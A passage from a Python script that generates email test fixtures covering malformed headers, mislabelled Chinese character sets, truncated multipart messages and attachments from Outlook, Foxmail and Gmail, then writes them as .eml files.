    return lines(
        'From: "Xu Li" <xuli@fs-furniture.cn>',
        "To: sales@tradeport.example",
        "Subject: New products",
        "Date: Tue, 19 Mar 2024 11:11:11 +0800",
        "Message-ID: <202403191111112345678@fs-furniture.cn>",
        "X-Mailer: Foxmail 7.2.25.228[cn]",
        "Mime-Version: 1.0",
        f'Content-Type: multipart/alternative; boundary="{outer}"',
        "",
        f"--{outer}",
        'Content-Type: text/plain; charset="utf-8"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("您好，这是我们的新产品：".encode()),
        "",
        f"--{outer}",
        f'Content-Type: multipart/related; boundary="{related}"',
        "",
        f"--{related}",
        'Content-Type: text/html; charset="utf-8"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(html.encode()),
        "",
        f"--{related}",
        'Content-Type: image/png; name="image001.png"',
        'Content-Description: image001.png',
        'Content-Disposition: inline; filename="image001.png"; size=100',
        "Content-ID: <image001.png@01DA7A1B.2C3D4E50>",
        "Content-Transfer-Encoding: base64",
        "",
        b64(LOGO),
        "",
        f"--{related}",
        "Content-Type: image/png;",
        '\tname="_Foxmail.1@8a2c1f3e-5b7d-4c1e-9f00-aa11bb22cc33"',
        "Content-Transfer-Encoding: base64",
        "Content-ID: <_Foxmail.1@8a2c1f3e-5b7d-4c1e-9f00-aa11bb22cc33>",
        "",
        b64(SIGNATURE),
        "",
        f"--{related}--",
        "",
        f"--{outer}--",
    )


def missing_message_id() -> bytes:
    """A form mailer with no Message-ID; a bare In-Reply-To without angle brackets."""
    return lines(
        "From: webform@example-site.com",
        "To: sales@tradeport.example",
        "Subject: RE: 回复：样品寄送",
        "In-Reply-To: 20240301.abc123@tradeport.example",
        "Date: Wed, 20 Mar 2024 08:00:00 -0700",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Samples received, thank you.",
    )


def broken_date() -> bytes:
    """A localised client that wrote the Date header in Chinese (raw UTF-8)."""
    return lines(
        "From: Wang <wang@example-cn.cn>",
        "To: sales@tradeport.example",
        "Subject: Broken date",
        "Date: 星期二, 05 三月 2024 14:22:10 +0800",
        "Message-ID: <broken-date@example-cn.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The date header cannot be read.",
    )


def folded_and_broken_headers() -> bytes:
    """Folding in odd places, split multi-byte encoded words, glued words, lowercase and duplicate names."""
    subject = "关于2024年广交会展位预订的确认函".encode()
    return lines(
        "Received: from [10.0.0.5] by mx.example (8.14.4) with ESMTP",
        " id x1; Thu, 21 Mar 2024 10:00:00 +0800",
        "FROM:   =?UTF-8?B?" + base64.b64encode("刘洋".encode()).decode() + "?=",
        "  <LiuYang@Example-Fair.CN>",
        "to: sales@tradeport.example,",
        "\t  manager@tradeport.example ,",
        "\t<boss@tradeport.example",
        "subject: Re:" + ew_bytes(subject[:10], "utf-8"),
        "\t" + ew_bytes(subject[10:23], "utf-8"),
        "    " + ew_bytes(subject[23:], "utf-8"),
        "Subject: this second subject must be ignored",
        "Cc:",
        "Date: Thu, 21 Mar 2024 10:00:00 +0800",
        "Message-ID:",
        "   <folded-id-0321@example-fair.cn>",
        "Keywords: =?utf-8?B?not base64 at all!!!?=",
        "MIME-Version: 1.0",
        "Content-Type: text/plain;",
        "   charset=",
        '   "utf-8"',
        "",
        "展位已确认。",
    )


def address_list_with_quoted_commas() -> bytes:
    """Display names with commas, encoded words, groups, upper-case addresses and a bad entry."""
    return lines(
        'From: "Wang, Fang" <fang.wang@example-importer.com>',
        'To: "Smith, John (Sales)" <John.Smith@Example.COM>, '
        + ew("李, 明", "utf-8", encoding="Q") + " <liming@example.cn>,",
        ' "' + ew("陈红", "gbk", "gb2312") + '" <chenhong@example.cn>, plain@example.org,',
        " undisclosed-recipients:;",
        'Cc: Purchasing: "Lee, Ann" <ann@example.com>, bob@example.com;, "nobody"',
        'Reply-To: "Orders, Dept." <orders@example-importer.com>',
        "Subject: Addresses",
        "Date: Fri, 22 Mar 2024 12:00:00 +0000",
        "Message-ID: <addresses@example-importer.com>",
        "",
        "Body.",
    )


def no_mime_version() -> bytes:
    """A 1990s-style plain message: no MIME-Version, no Content-Type, ASCII body."""
    return lines(
        "From: legacy@example.org (Legacy Sender)",
        "To: sales@tradeport.example",
        "Subject: Plain old mail",
        "Date: 23 Mar 2024 06:00:00 GMT",
        "Message-ID: <legacy.1@example.org>",
        "",
        "This message has no MIME headers at all.",
        "Second line.",
    )


def truncated_multipart() -> bytes:
    """A download cut short: the base64 attachment stops mid-way and the closing boundary is missing."""
    boundary = "==BOUNDARY_TRUNC=="
    return lines(
        "From: sender@example-cut.com",
        "To: sales@tradeport.example",
        "Subject: Truncated",
        "Date: Sun, 24 Mar 2024 09:00:00 +0000",
        "Message-ID: <truncated@example-cut.com>",
        "MIME-Version: 1.0",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The catalogue is attached.",
        "",
        f"--{boundary}",
        'Content-Type: application/pdf; name="catalogue.pdf"',
        'Content-Disposition: attachment; filename="catalogue.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(PDF * 4)[:150],
    )


def empty_body() -> bytes:
    """Headers only: no blank line, no body."""
    return lines(
        "From: Empty <empty@example.com>",
        "To: sales@tradeport.example",
        "Subject: (no body)",
        "Date: Mon, 25 Mar 2024 10:00:00 +0000",
        "Message-ID: <empty@example.com>",
    ).rstrip(b"\n")


HUGE_REFERENCES = [f"<ref{i:04d}.{'x' * 20}@thread.example.com>" for i in range(300)]


def huge_header_line() -> bytes:
    """A 300-message thread: References on one unfolded line (~15 kB), a 3,000-character subject."""
    return lines(
        "From: Thread <thread@example.com>",
        "To: sales@tradeport.example",
        "Subject: Re: " + "很长的主题" * 600,
        "Date: Tue, 26 Mar 2024 10:00:00 +0000",
        "Message-ID: <huge@example.com>",
        f"In-Reply-To: {HUGE_REFERENCES[-1]}",
        "References: " + " ".join(HUGE_REFERENCES),
        "X-Long: " + "a" * 20000,
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "End of a long thread.",
    )


def nested_alternatives() -> bytes:
    """Apple Mail: mixed > alternative > (plain, related > (html, image)), plus a PDF."""
    mixed, alt, rel = "Apple-Mail=_MIXED-1", "Apple-Mail=_ALT-2", "Apple-Mail=_REL-3"
    return lines(
        "From: Emily Brown <emily@example-uk.co.uk>",
        "To: sales@tradeport.example",
        "Subject: Samples and photo",
        "Date: Wed, 27 Mar 2024 17:45:00 +0000",
        "Message-ID: <E1A2B3C4-D5E6-F708-9A0B-C1D2E3F40516@example-uk.co.uk>",
        "Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))",
        f'Content-Type: multipart/mixed; boundary="{mixed}"',
        "",
        f"--{mixed}",
        f'Content-Type: multipart/alternative; boundary="{alt}"',
        "",
        f"--{alt}",
        "Content-Transfer-Encoding: 7bit",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Plain version: the samples arrived, photo inline.",
        "",
        f"--{alt}",
        f'Content-Type: multipart/related; type="text/html"; boundary="{rel}"',
        "",
        f"--{rel}",
        "Content-Transfer-Encoding: 7bit",
        "Content-Type: text/html; charset=us-ascii",
        "",
        '<html><body><p>HTML version: the samples arrived.</p><img src="cid:photo@apple"></body></html>',
        "",
        f"--{rel}",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: inline; filename=photo.png",
        "Content-Type: image/png; name=photo.png",
        "Content-Id: <photo@apple>",
        "",
        b64(png(4, 4)),
        "",
        f"--{rel}--",
        "",
        f"--{alt}--",
        "",
        f"--{mixed}",
        "Content-Disposition: attachment; filename=invoice.pdf",
        "Content-Type: application/pdf; name=invoice.pdf",
        "Content-Transfer-Encoding: base64",
        "",
        b64(PDF),
        "",
        f"--{mixed}--",
    )


def reply_chain_threading_headers() -> bytes:
    """Gmail reply: stacked Re:/回复:/转发:/Fwd: prefixes, folded References, +0800 date."""
    boundary = "0000000000004f5e6d7c8b9a0123"
    return lines(
        "MIME-Version: 1.0",
        "References: <quote-2024-0305@tradeport.example>",
        " <CAB1x2y3z4@mail.gmail.com>",
        "\t<reply-2@tradeport.example>",
        "In-Reply-To: <reply-2@tradeport.example>",
        "From: Buyer Gmail <buyer.gmail@gmail.com>",
        "Date: Thu, 28 Mar 2024 01:30:00 +0800",
        "Message-ID: <CAB9q8w7e6r5@mail.gmail.com>",
        f"Subject: {ew('回复: 转发：Re: Fwd: RE：报价单 Q2', 'utf-8')}",
        "To: Tradeport Sales <sales@tradeport.example>",
        "Cc: Boss <boss@example-importer.com>",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="UTF-8"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("好的，我们确认订单。\n\n> 原邮件\n".encode()),
        "",
        f"--{boundary}",
        'Content-Type: text/html; charset="UTF-8"',
        "Content-Transfer-Encoding: base64",
        "",
        b64('<div dir="ltr">好的，我们确认订单。</div><blockquote class="gmail_quote">原邮件</blockquote>'.encode()),
        "",
        f"--{boundary}--",
    )


def qq_mail_gb18030_four_byte() -> bytes:
    """QQ Mail: gb18030 label, four-byte GB18030 characters (𠮷, 䶮) in subject and HTML body."""
    boundary = "----=_NextPart_65F0A1B2_0C3D4E5F_6A7B8C9D"
    return lines(
        "From: \"=?gb18030?B?" + base64.b64encode("刘䶮".encode("gb18030")).decode() + "?=\" <10001@qq.com>",
        'To: "sales" <sales@tradeport.example>',
        f"Subject: {ew('𠮷野家餐具订单', 'gb18030')}",
        "Mime-Version: 1.0",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
        "Content-Transfer-Encoding: 8Bit",
        "Date: Fri, 29 Mar 2024 20:15:00 +0800",
        "X-Priority: 3",
        "Message-ID: <tencent_0A1B2C3D4E5F60718293A4B5@qq.com>",
        "X-QQ-MIME: TCMime 1.0 by Tencent",
        "X-Mailer: QQMail 2.x",
        "X-QQ-Mailer: QQMail 2.x",
        "",
        "This is a multi-part message in MIME format.",
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="gb18030"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("𠮷野家餐具订单，刘䶮。".encode("gb18030")),
        "",
        f"--{boundary}",
        'Content-Type: text/html; charset="gb18030"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("<meta http-equiv=\"Content-Type\" content=\"text/html; charset=GB18030\">"
            "<div>𠮷野家餐具订单，刘䶮。</div>".encode("gb18030")),
        "",
        f"--{boundary}--",
    )


def x_gbk_alias() -> bytes:
    """A Java mailer labelling GBK as x-gbk (subject as a Q encoded word, body 8-bit)."""
    return lines(
        "From: noreply@erp.example.cn",
        "To: sales@tradeport.example",
        f"Subject: {ew('订单已发货通知', 'gbk', 'x-gbk', 'Q')}",
        "Date: Sat, 30 Mar 2024 12:00:00 +0800",
        "Message-ID: <xgbk-0330@erp.example.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=x-gbk",
        "Content-Transfer-Encoding: 8bit",
        "",
        "您的订单已经发货，运单号SF1234567890。".encode("gbk"),
    )


def gbk_labelled_iso8859() -> bytes:
    """An old gateway that relabels everything ISO-8859-1: the body is really GBK."""
    return lines(
        "From: export@example-ningbo.cn",
        "To: sales@tradeport.example",
        "Subject: Price confirmation",
        "Date: Sun, 31 Mar 2024 09:00:00 +0800",
        "Message-ID: <latin1-gbk@example-ningbo.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=iso-8859-1",
        "Content-Transfer-Encoding: 8bit",
        "",
        "您好，价格已经确认，我们下周安排生产。谢谢！".encode("gbk"),
    )


def gbk_labelled_us_ascii() -> bytes:
    """A script that declares us-ascii but writes GBK bytes."""
    return lines(
        "From: report@example-ningbo.cn",
        "To: sales@tradeport.example",
        "Subject: Weekly report",
        "Date: Sun, 31 Mar 2024 10:00:00 +0800",
        "Message-ID: <ascii-gbk@example-ningbo.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=us-ascii",
        "Content-Transfer-Encoding: 8bit",
        "",
        ("本周共发货三十二个集装箱，其中美国十二个，德国八个，英国六个，其余发往中东地区。"
         "下周计划发货二十五个集装箱，请各业务员及时跟进客户的付款情况。").encode("gbk"),
    )


def outlook_pdf_attachment() -> bytes:
    """Outlook 2016: multipart/mixed around multipart/alternative, a 100,001-byte PDF in base64
    (76-character lines, one `=` of padding), its Chinese name as RFC 2047 inside the quotes."""
    name = ew("形式发票PI-2026.pdf", "gb2312")
    return lines(
        "From: =?gb2312?B?wfXD9w==?= <liu.ming@example-ningbo.cn>",
        "To: \"buyer@example-importer.com\" <buyer@example-importer.com>",
        "Subject: PI 2026",
        "Date: Wed, 4 Mar 2026 09:12:44 +0800",
        "Message-ID: <B1C2D3E4F5A6@EXMBX01.example-ningbo.cn>",
        "Content-Language: zh-CN",
        "X-MS-Has-Attach: yes",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="_004_B1C2D3E4F5A6EXMBX01_"',
        "",
        "--_004_B1C2D3E4F5A6EXMBX01_",
        'Content-Type: multipart/alternative; boundary="_000_B1C2D3E4F5A6EXMBX01_"',
        "",
        "--_000_B1C2D3E4F5A6EXMBX01_",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("请查收形式发票。".encode("gb2312")),
        "",
        "--_000_B1C2D3E4F5A6EXMBX01_",
        'Content-Type: text/html; charset="gb2312"',
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp("<html><body><p>请查收形式发票。</p></body></html>".encode("gb2312")),
        "",
        "--_000_B1C2D3E4F5A6EXMBX01_--",
        "",
        "--_004_B1C2D3E4F5A6EXMBX01_",
        f'Content-Type: application/pdf; name="{name}"',
        f'Content-Description: {name}',
        f'Content-Disposition: attachment; filename="{name}"; size=100001;',
        '\tcreation-date="Wed, 04 Mar 2026 01:12:00 GMT";',
        '\tmodification-date="Wed, 04 Mar 2026 01:12:00 GMT"',
        "Content-Transfer-Encoding: base64",
        "",
        b64(OUTLOOK_PDF),
        "",
        "--_004_B1C2D3E4F5A6EXMBX01_--",
    )


def foxmail_gbk_attachment() -> bytes:
    """Foxmail 7: boundary ----=_001_NextPart…, a spreadsheet of 11,521 bytes (not a multiple of 3)
    named by a GB2312 encoded word, base64 in 76-character lines."""
    boundary = "----=_001_NextPart572182624333_=----"
    name = ew("报价单.xlsx", "gb2312")
    return lines(
        "Date: Wed, 4 Mar 2026 10:20:31 +0800",
        "From: \"=?gb2312?B?1cXOsA==?=\" <zhang.wei@example-ningbo.cn>",
        "To: \"buyer\" <buyer@example-importer.com>",
        "Subject: =?gb2312?B?sajGtbWl?=",
        "X-Priority: 3",
        "X-Mailer: Foxmail 7.2.25.228[cn]",
        "Mime-Version: 1.0",
        "Message-ID: <202603041020310846123@example-ningbo.cn>",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        "This is a multi-part message in MIME format.",
        "",
        f"--{boundary}",
        'Content-Type: text/plain; charset="gb2312"',
        "Content-Transfer-Encoding: base64",
        "",
        b64("附件是报价单。".encode("gb2312")),
        "",
        f"--{boundary}",
        f'Content-Type: application/octet-stream; name="{name}"',
        "Content-Transfer-Encoding: base64",
        f'Content-Disposition: attachment; filename="{name}"',
        "",
        b64(FOXMAIL_XLSX),
        "",
        f"--{boundary}--",
        "",
    )


def gmail_attachment() -> bytes:
    """Gmail: boundary of zeros and hex, X-Attachment-Id and Content-ID on the attachment,
    a 4,097-byte PDF whose base64 ends in `==`."""
    boundary = "000000000000a1b2c3062f1d2e3f"
    return lines(
        "MIME-Version: 1.0",
        "Date: Wed, 4 Mar 2026 11:02:13 +0100",
        "Message-ID: <CAF8x=Yq1K2m3N4o5P6q7R8s9T0u1V2w3X4y5Z6@mail.gmail.com>",
        "Subject: Signed contract",
        "From: Anna Berg <anna.berg@gmail.example>",
        "To: sales@tradeport.example",
        f'Content-Type: multipart/mixed; boundary="{boundary}"',
        "",
        f"--{boundary}",
        'Content-Type: multipart/alternative; boundary="000000000000a1b2c2062f1d2e3d"',
        "",
        "--000000000000a1b2c2062f1d2e3d",
        'Content-Type: text/plain; charset="UTF-8"',
        "",
        "Here is the signed contract.",
        "",
        "--000000000000a1b2c2062f1d2e3d",
        'Content-Type: text/html; charset="UTF-8"',
        "",
        '<div dir="ltr">Here is the signed contract.</div>',
        "",
        "--000000000000a1b2c2062f1d2e3d--",
        f"--{boundary}",
        'Content-Type: application/pdf; name="Contract 2026-03.pdf"',
        'Content-Disposition: attachment; filename="Contract 2026-03.pdf"',
        "Content-Transfer-Encoding: base64",
        "Content-ID: <f_m9a8b7c60>",
        "X-Attachment-Id: f_m9a8b7c60",
        "",
        b64(GMAIL_PDF),
        f"--{boundary}--",
    )


def raw_8bit_in_encoded_words() -> bytes:
    """An old German client and an old Chinese one: raw 8-bit bytes inside Q encoded words,
    Latin-1 in the subject, GB2312 in the sender's name."""
    return lines(
        b"From: =?gb2312?Q?\xd5\xc5=CE=B0?= <zhang.wei@example-ningbo.cn>",
        "To: sales@tradeport.example",
        b"Subject: =?iso-8859-1?Q?Fr\xf6sche_und_K\xe4se?=",
        "Date: Wed, 4 Mar 2026 12:00:00 +0100",
        "Message-ID: <raw-in-words@example-ningbo.cn>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=iso-8859-1",
        "",
        b"Gr\xfc\xdfe",
    )


BUILDERS = [
    gbk_labelled_gb2312_subject, big5_hkscs_body, undeclared_charset_gbk_body, utf8_labelled_iso8859,
    raw_8bit_utf8_headers, raw_8bit_gbk_headers, rfc2231_filename_chinese, rfc2047_in_filename_param,
    raw_gbk_filename, utf7_body, uuencoded_attachment, winmail_dat, winmail_dat_unreadable, dsn_bounce,
    dsn_delayed_headers_only, mdn_read_receipt, forwarded_message_rfc822, html_with_remote_images_and_script,
    html_entity_encoded_remote_image, cid_inline_image, missing_message_id, broken_date,
    folded_and_broken_headers, address_list_with_quoted_commas, no_mime_version, truncated_multipart,
    empty_body, huge_header_line, nested_alternatives, reply_chain_threading_headers,
    qq_mail_gb18030_four_byte, x_gbk_alias, gbk_labelled_iso8859, gbk_labelled_us_ascii,
    outlook_pdf_attachment, foxmail_gbk_attachment, gmail_attachment, raw_8bit_in_encoded_words,
]


def crlf(data: bytes) -> bytes:
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def main() -> None:
    FIXTURES.mkdir(exist_ok=True)
    for builder in BUILDERS:
        path = FIXTURES / f"{builder.__name__}.eml"
        path.write_bytes(crlf(builder()))
        print(f"{path.name}: {path.stat().st_size} bytes")


if __name__ == "__main__":
    main()
